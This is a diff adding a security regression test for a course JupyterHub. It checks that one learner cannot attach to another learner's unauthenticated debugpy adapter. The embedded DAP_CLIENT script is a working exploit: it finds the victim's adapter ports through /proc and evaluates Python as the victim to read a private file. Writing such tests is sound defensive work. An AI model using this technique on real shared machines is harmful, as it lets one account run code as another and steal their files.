@@ -1,0 +1,227 @@
+"""Attacks by one learner on another on a real hub (``python -m grader hub``), over HTTP and as their Unix accounts.
+
+One hub for the module, with its own class folders (``COURSE_HUB_SRV``, wiped first) on free loopback ports, started as
+``make hub`` starts it. The victim (ada) acts through the hub's REST APIs with her own password, as her browser would;
+the attacker (blake) runs Python as his Unix account, which is what a learner's kernel can do. No browser.
+"""
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import re
+import secrets
+import shutil
+import subprocess
+import sys
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+from test_browser import JUPYTER, ROOT, _free_port
+from test_hub import VENV_BIN, _stop, _wait_for
+
+SRV = Path("/srv/jax-course-attacks")
+ARTIFACTS = ROOT / "test-artifacts" / "hub-attacks"
+
+pytestmark = pytest.mark.slow
+
+
+@pytest.fixture(scope="module")
+def hub():
+    if os.geteuid() != 0:
+        pytest.skip("the hub makes Unix accounts and runs each learner's server as that learner: run as root")
+    if not JUPYTER.exists():
+        pytest.skip(f"{JUPYTER} is missing: run `make test`, which installs the project's environment")
+    if shutil.which("npm") is None:
+        pytest.skip("npm is missing: JupyterHub's proxy (configurable-http-proxy) is installed with npm")
+    requests = pytest.importorskip("requests")
+    pytest.importorskip("websocket")
+    shutil.rmtree(SRV, ignore_errors=True)
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    log_path = ARTIFACTS / "hub.log"
+    port, service_port = _free_port(), _free_port()
+    with log_path.open("w") as log:
+        process = subprocess.Popen([sys.executable, "-m", "grader", "hub", "--port", str(port), "--service-port",
+                                    str(service_port), "--workers", "1"], cwd=ROOT, stdout=log,
+                                   stderr=subprocess.STDOUT, env=dict(os.environ, COURSE_HUB_SRV=str(SRV)),
+                                   start_new_session=True)
+    try:
+        _wait_for(log_path, "JupyterHub is now running", process, 900)
+        _wait_for(log_path, "serve: watching", process, 300)
+        passwords = {}
+        for line in (SRV / "hub" / "passwords.txt").read_text().splitlines():
+            if ":" in line and not line.startswith("#"):
+                name, word = line.split(":", 1)
+                passwords[name] = word
+        yield Hub(f"http://127.0.0.1:{port}", passwords, requests)
+    finally:
+        _stop(process)
+
+
+class Hub:
+    def __init__(self, url: str, passwords: dict[str, str], requests):
+        self.url, self.passwords, self.requests = url, passwords, requests
+
+    def login(self, user: str) -> str:
+        """Log in through the hub's login page (PAM), start the user's server, return an API token of theirs."""
+        session = self.requests.Session()
+        session.get(f"{self.url}/hub/login")
+        xsrf = session.cookies.get("_xsrf")
+        answer = session.post(f"{self.url}/hub/login?next=", allow_redirects=False,
+                              data={"username": user, "password": self.passwords[user], "_xsrf": xsrf})
+        assert answer.status_code in (302, 303), f"login as {user}: {answer.status_code}"
+        session.headers["X-XSRFToken"] = session.cookies.get("_xsrf") or xsrf
+        answer = session.post(f"{self.url}/hub/api/users/{user}/tokens", json={"expires_in": 3600})
+        assert answer.status_code in (200, 201), answer.text
+        token = answer.json()["token"]
+        headers = {"Authorization": f"token {token}"}
+        self.requests.post(f"{self.url}/hub/api/users/{user}/server", headers=headers)
+        deadline = time.monotonic() + 240
+        while not self.requests.get(f"{self.url}/hub/api/users/{user}", headers=headers).json().get(
+                "servers", {}).get("", {}).get("ready"):
+            assert time.monotonic() < deadline, f"{user}'s server did not start"
+            time.sleep(0.5)
+        return token
+
+    def kernel(self, user: str, token: str) -> str:
+        answer = self.requests.post(f"{self.url}/user/{user}/api/kernels", json={"name": "python3"},
+                                    headers={"Authorization": f"token {token}"})
+        assert answer.status_code == 201, answer.text
+        return answer.json()["id"]
+
+    def channels(self, user: str, token: str, kernel: str):
+        import websocket
+
+        ws_url = self.url.replace("http://", "ws://") + f"/user/{user}/api/kernels/{kernel}/channels"
+        return websocket.create_connection(ws_url, header=[f"Authorization: token {token}"], timeout=60)
+
+
+def _request(ws, user: str, channel: str, msg_type: str, content: dict, reply: str, timeout: float) -> dict | None:
+    """Send one message on a kernel's websocket; its reply's content, or None when none came within ``timeout``."""
+    import websocket
+
+    msg_id = uuid.uuid4().hex
+    ws.send(json.dumps({"header": {"msg_id": msg_id, "msg_type": msg_type, "username": user, "session": msg_id,
+                                   "version": "5.3"}, "parent_header": {}, "metadata": {}, "channel": channel,
+                        "content": content}))
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:  # short reads: the server's pings would restart a long one for ever
+        ws.settimeout(min(2.0, max(0.1, deadline - time.monotonic())))
+        try:
+            message = json.loads(ws.recv())
+        except websocket.WebSocketTimeoutException:
+            continue
+        if message.get("msg_type") == reply and message.get("parent_header", {}).get("msg_id") == msg_id:
+            return message["content"]
+    return None
+
+
+def _as(user: str, code: str, *args: str, timeout: float = 120) -> subprocess.CompletedProcess:
+    """Python as ``user``'s Unix account (what that learner's kernel can run), in the learners' environment."""
+    return subprocess.run(["runuser", "-u", user, "--", "env", "-i", f"PATH={VENV_BIN}:/usr/bin:/bin",
+                           f"HOME={pwd.getpwnam(user).pw_dir}", "LANG=C.UTF-8", str(VENV_BIN / "python"), "-c", code, *args],
+                          cwd="/", capture_output=True, text=True, timeout=timeout)
+
+
+def _processes() -> set[str]:
+    return set(filter(str.isdigit, os.listdir("/proc")))
+
+
+# A DAP client (the Debug Adapter Protocol debugpy speaks): every debugpy adapter the victim's processes run, as the
+# victim's /proc/PID/cmdline shows it to every account, is asked to attach and evaluate an expression.
+DAP_CLIENT = r'''
+import json, os, socket, sys, time
+victim, expression, before = sys.argv[1], sys.argv[2], set(sys.argv[3].split())
+uid = __import__("pwd").getpwnam(victim).pw_uid
+ports = []
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        if pid in before or os.stat(f"/proc/{pid}").st_uid != uid:
+            continue
+        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+    except OSError:
+        continue
+    if any(b"debugpy" in a for a in argv) and b"--port" in argv:
+        ports.append(int(argv[argv.index(b"--port") + 1]))
+found = {"adapters": ports, "results": []}
+for port in ports:
+    try:
+        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+    except OSError as error:
+        found["results"].append(repr(error)); continue
+    buffer, seq = b"", 0
+    def send(command, arguments=None):
+        global seq
+        seq += 1
+        body = json.dumps({"seq": seq, "type": "request", "command": command, "arguments": arguments or {}}).encode()
+        sock.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)
+        return seq
+    def wait(wanted, timeout=10.0):
+        global buffer
+        deadline = time.time() + timeout
+        while time.time() < deadline:
+            if b"\r\n\r\n" in buffer:
+                head, rest = buffer.split(b"\r\n\r\n", 1)
+                size = int(head.split(b":")[1])
+                if len(rest) >= size:
+                    buffer, message = rest[size:], json.loads(rest[:size])
+                    if message.get("type") == "response" and message.get("request_seq") == wanted:
+                        return message
+                    continue
+            sock.settimeout(max(0.1, deadline - time.time()))
+            try:
+                chunk = sock.recv(65536)
+            except socket.timeout:
+                return None
+            if not chunk:
+                return None
+            buffer += chunk
+    wait(send("initialize", {"clientID": "x", "adapterID": "python", "pathFormat": "path"}))
+    attach = send("attach", {"justMyCode": False})
+    wait(send("configurationDone"))
+    wait(attach)
+    answer = wait(send("evaluate", {"expression": expression, "context": "repl"}))
+    found["results"].append(answer)
+print("DAP " + json.dumps(found))
+'''
+
+
+def test_another_learner_cannot_attach_to_a_kernels_debugger(hub):
+    """JupyterLab's debugger (the bug icon) makes the kernel start debugpy, whose adapter listens on a loopback TCP
+    port with no authentication of clients; once the learner turns the debugger off (a DAP ``disconnect``), any
+    account on the machine can attach and evaluate Python as that learner. The learner's server must not start it."""
+    victim, attacker = "ada", "blake"
+    secret = secrets.token_hex(16)
+    home = Path(pwd.getpwnam(victim).pw_dir)
+    (home / ".attack-secret").write_text(secret)
+    shutil.chown(home / ".attack-secret", victim, victim)
+    os.chmod(home / ".attack-secret", 0o600)
+    before = _processes()  # adapters of other sessions of the victim's are not this test's
+    token = hub.login(victim)
+    kernel = hub.kernel(victim, token)
+    ws = hub.channels(victim, token, kernel)
+    try:
+        assert _request(ws, victim, "shell", "kernel_info_request", {}, "kernel_info_reply", 120) is not None
+        # What JupyterLab's debugger sends when the learner switches it on, then off.
+        dap = {"type": "request", "seq": 1, "command": "initialize",
+               "arguments": {"clientID": "jupyterlab", "adapterID": "python", "pathFormat": "path",
+                             "linesStartAt1": True, "columnsStartAt1": True}}
+        started = _request(ws, victim, "control", "debug_request", dap, "debug_reply", 30)
+        for seq, command in ((2, "attach"), (3, "configurationDone"), (4, "disconnect")):
+            if started is None:
+                break
+            _request(ws, victim, "control", "debug_request", {"type": "request", "seq": seq, "command": command,
+                                                               "arguments": {}}, "debug_reply", 30)
+        # The kernel still answers its own learner.
+        ran = _request(ws, victim, "shell", "execute_request", {"code": "1", "silent": True}, "execute_reply", 60)
+        assert ran is not None and ran["status"] == "ok"
+    finally:
+        ws.close()
+    done = _as(attacker, DAP_CLIENT, victim, f"open({str(home / '.attack-secret')!r}).read()",
+               " ".join(before))
+    found = json.loads(next(l for l in done.stdout.splitlines() if l.startswith("DAP "))[4:])
+    assert secret not in done.stdout, f"{attacker} read {victim}'s file through her kernel's debugger: {found}"
+    assert not found["adapters"], f"{victim}'s kernel runs a debugpy adapter on loopback TCP: {found}"
